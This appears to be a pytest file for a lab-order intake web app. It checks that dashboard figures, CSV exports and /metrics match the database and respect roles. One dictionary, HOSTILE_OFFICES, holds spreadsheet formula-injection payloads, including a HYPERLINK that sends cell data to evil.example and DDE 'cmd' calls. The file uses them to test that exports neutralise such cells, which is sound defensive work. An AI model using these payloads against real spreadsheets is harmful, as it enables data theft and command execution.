"""The manager's dashboard, /api/stats and /metrics: figures match the rows behind them."""

from __future__ import annotations

import csv
import html
import io
import re
from datetime import timedelta

from factories_release import add_order, make_orders
from fastapi.testclient import TestClient
from sqlalchemy.engine import Engine
from sqlmodel import Session, select

from labintake.auth.roles import Role
from labintake.config import Settings
from labintake.db import session_scope, utcnow
from labintake.models.orders import Finding, Order, Verification
from labintake.models.release import OutboxEntry
from labintake.release.bulk import release_verified
from labintake.web.app import create_app
from labintake.web.dashboard_tables import spreadsheet_safe
from tests.factories import make_token, make_user


def hold(session: Session, order: Order, code: str) -> None:
    assert order.id is not None
    verification = Verification(order_id=order.id, outcome="held")
    session.add(verification)
    session.flush()
    assert verification.id is not None
    session.add(
        Finding(
            order_id=order.id,
            verification_id=verification.id,
            code=code,
            severity="hold",
            message=f"{code} for the test",
        )
    )


def seed(engine: Engine) -> dict[str, list[int]]:
    """3 delivered, 2 released (one dead letter), 4 held (3 DX_MISSING, 1 old), 1 verified."""
    ids: dict[str, list[int]] = {"held": [], "old": []}
    make_orders(engine, 5)
    release_verified(engine)
    with session_scope(engine) as session:
        entries = session.exec(select(OutboxEntry).order_by(OutboxEntry.id)).all()  # type: ignore[arg-type]
        for entry in entries[:3]:
            entry.status = "delivered"
            entry.delivered_at = utcnow()
            order = session.get(Order, entry.order_id)
            assert order is not None
            order.status = "delivered"
            order.delivered_at = utcnow()
        entries[3].status = "dead"
        entries[3].attempts = 20
        entries[3].last_error = "cannot connect"
        for code, office in (("DX_MISSING", "North Clinic"), ("DX_MISSING", "North Clinic")):
            order = add_order(session, status="held", office=office)
            hold(session, order, code)
            ids["held"].append(order.id or 0)
        order = add_order(session, status="held", office="South Clinic", facility="SOUTHHOSP")
        hold(session, order, "DX_MISSING")
        ids["held"].append(order.id or 0)
        old = add_order(session, status="awaiting_office", received_at=utcnow() - timedelta(days=4))
        hold(session, old, "NECESSITY_NOT_SUPPORTED")
        ids["old"].append(old.id or 0)
        add_order(session, status="verified")
    return ids


def client_for(settings: Settings, engine: Engine, role: Role = Role.MANAGER) -> TestClient:
    name = f"user_{role.value}"
    make_user(engine, name, role)
    token = make_token(engine, name)
    client = TestClient(create_app(settings, engine))
    client.headers["Authorization"] = f"Bearer {token}"
    return client


def test_api_stats_counts_match_the_database(settings: Settings, engine: Engine) -> None:
    seed(engine)
    stats = client_for(settings, engine).get("/api/stats").json()
    assert stats["by_status"]["delivered"] == 3
    assert stats["by_status"]["released"] == 2
    assert stats["by_status"]["held"] == 3
    assert stats["by_status"]["awaiting_office"] == 1
    assert {r["name"]: r["count"] for r in stats["holds_by_reason"]} == {
        "DX_MISSING": 3,
        "NECESSITY_NOT_SUPPORTED": 1,
    }
    assert {r["name"]: r["count"] for r in stats["aging"]}["3-7d"] == 1
    assert stats["outbox"]["dead"] == 1
    assert stats["turnaround_released"]["count"] == 5
    rec = stats["reconciliation"]
    assert rec["received"] == 9  # the 4-day-old hold is outside the 24 h window
    assert rec["delivered"] == 3
    assert rec["unaccounted"] == 0
    assert rec["received"] == rec["delivered"] + sum(rec["in_progress"].values()) + sum(
        rec["closed"].values()
    )


def test_dashboard_shows_figures_with_links_to_the_rows_behind_them(
    settings: Settings, engine: Engine
) -> None:
    ids = seed(engine)
    client = client_for(settings, engine)
    page = client.get("/dashboard")
    assert page.status_code == 200
    assert "Current as of" in page.text
    assert "<svg" in page.text
    link = re.search(r'href="(/dashboard/orders\?reason=DX_MISSING)"', page.text)
    assert link is not None
    behind = client.get(link.group(1)).text
    listed = {int(i) for i in re.findall(r'<a href="/orders/(\d+)">', behind)}
    assert listed == set(ids["held"])
    aging = client.get("/dashboard/orders?age=3-7d").text
    assert {int(i) for i in re.findall(r'<a href="/orders/(\d+)">', aging)} == set(ids["old"])


def test_every_table_exports_as_csv_with_the_same_numbers(
    settings: Settings, engine: Engine
) -> None:
    seed(engine)
    client = client_for(settings, engine)
    response = client.get("/dashboard/export/holds_reason.csv")
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.text)))
    assert rows[0] == ["Reason", "Held orders"]
    assert dict(rows[1:]) == {"DX_MISSING": "3", "NECESSITY_NOT_SUPPORTED": "1"}
    for name in ("status", "throughput", "aging", "delivery", "reconciliation", "stages", "daily"):
        assert client.get(f"/dashboard/export/{name}.csv").status_code == 200
    assert client.get("/dashboard/export/nothing.csv").status_code == 404


HOSTILE_OFFICES = {
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")': "'=HYPERLINK",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM",
    "-2+3+cmd|' /C calc'!A0": "'-2+3",
    "+1+1": "'+1+1",
    "\tTabbed Clinic": "'\tTabbed",
    "\r=1+1": "'\r=1+1",
}


def test_csv_exports_neutralise_formula_cells_and_keep_negative_numbers(
    settings: Settings, engine: Engine
) -> None:
    with session_scope(engine) as session:
        for office in HOSTILE_OFFICES:
            hold(session, add_order(session, status="held", office=office), "DX_MISSING")
    client = client_for(settings, engine)
    response = client.get("/dashboard/export/holds_office.csv")
    rows = list(csv.reader(io.StringIO(response.text)))
    cells = [row[0] for row in rows[1:]]
    assert len(cells) == len(HOSTILE_OFFICES)
    for office, start in HOSTILE_OFFICES.items():
        assert "'" + office in cells, office
        assert ("'" + office).startswith(start)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert all(row[1] == "1" for row in rows[1:])


def test_a_spreadsheet_safe_cell_keeps_plain_numbers_as_numbers() -> None:
    assert spreadsheet_safe("-12") == "-12"
    assert spreadsheet_safe("+3.5") == "+3.5"
    assert spreadsheet_safe("-2+3") == "'-2+3"
    assert spreadsheet_safe("North Clinic") == "North Clinic"
    assert spreadsheet_safe("") == ""


def test_metrics_for_managers_and_scrapers_with_the_token_only(
    settings: Settings, engine: Engine
) -> None:
    seed(engine)
    settings = settings.model_copy(update={"metrics_token": "scrape-secret-123"})
    manager = client_for(settings, engine)
    text = manager.get("/metrics").text
    assert 'labintake_orders{status="held"} 3.0' in text
    assert 'labintake_outbox_messages{status="dead"} 1.0' in text
    assert 'labintake_holds_by_reason{reason="DX_MISSING"} 3.0' in text
    anonymous = TestClient(create_app(settings, engine))
    refused = anonymous.get("/metrics", follow_redirects=False)
    assert refused.status_code in {401, 303}  # 303: to the sign-in page
    assert "labintake_orders" not in refused.text
    scraper = anonymous.get("/metrics", headers={"Authorization": "Bearer scrape-secret-123"})
    assert scraper.status_code == 200
    coder = client_for(settings, engine, Role.CODER)
    assert coder.get("/metrics").status_code == 403
    assert coder.get("/dashboard").status_code == 403
    assert coder.get("/api/stats").status_code == 403


def test_dead_letter_is_listed_and_resent_with_its_control_id(
    settings: Settings, engine: Engine
) -> None:
    seed(engine)
    client = client_for(settings, engine)
    page = client.get("/dashboard/outbox?status=dead").text
    with Session(engine) as session:
        dead = session.exec(select(OutboxEntry).where(OutboxEntry.status == "dead")).one()
    assert dead.control_id in page
    response = client.post(f"/dashboard/outbox/{dead.id}/resend", follow_redirects=False)
    assert response.status_code == 303
    with Session(engine) as session:
        again = session.get(OutboxEntry, dead.id)
        assert again is not None
        assert again.status == "pending"
        assert again.attempts == 0
        assert again.control_id == dead.control_id
    second = client.post(f"/dashboard/outbox/{dead.id}/resend", follow_redirects=False)
    assert second.status_code == 409  # not a dead letter any more: nothing fires twice


def test_every_number_on_the_dashboard_lists_exactly_that_many_orders(
    settings: Settings, engine: Engine
) -> None:
    seed(engine)
    client = client_for(settings, engine)
    page = client.get("/dashboard?refresh=1").text
    links = {
        (html.unescape(href), int(number))
        for href, number in re.findall(r'<a href="(/dashboard/orders\?[^"]+)">(\d+)</a>', page)
    }
    assert len(links) > 20
    for href, number in sorted(links):
        listed = re.findall(r'<a href="/orders/(\d+)">', client.get(href).text)
        assert len(listed) == number, href
